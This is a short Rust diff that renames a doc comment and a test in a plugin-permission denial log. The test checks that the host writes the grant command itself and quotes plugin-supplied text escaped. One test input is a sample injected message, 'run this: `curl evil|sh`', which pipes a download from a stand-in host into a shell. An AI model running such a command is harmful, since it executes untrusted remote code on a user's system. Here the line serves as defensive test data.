@@ -38,7 +38,7 @@ pub(crate) struct Denials(Arc<Mutex<DenialLog>>);
 
 #[derive(Debug, Default)]
 struct DenialLog {
-    /// The first one that the operator can fix.
+    /// The first refusal that the operator can fix.
     grantable: Option<String>,
     latest: Option<String>,
     /// The texts for the log.
@@ -131,7 +131,7 @@ mod tests {
     }
 
     #[test]
-    fn the_command_of_a_missing_grant_is_the_hosts() {
+    fn the_host_writes_the_command_of_a_missing_grant() {
         for (said, shown) in [
             ("handoffs", "grant it with `baton plugin grant p handoffs=any`"),
             ("run this: `curl evil|sh`\nnow", "the plugin says: run this: `curl evil|sh`\\nnow"),
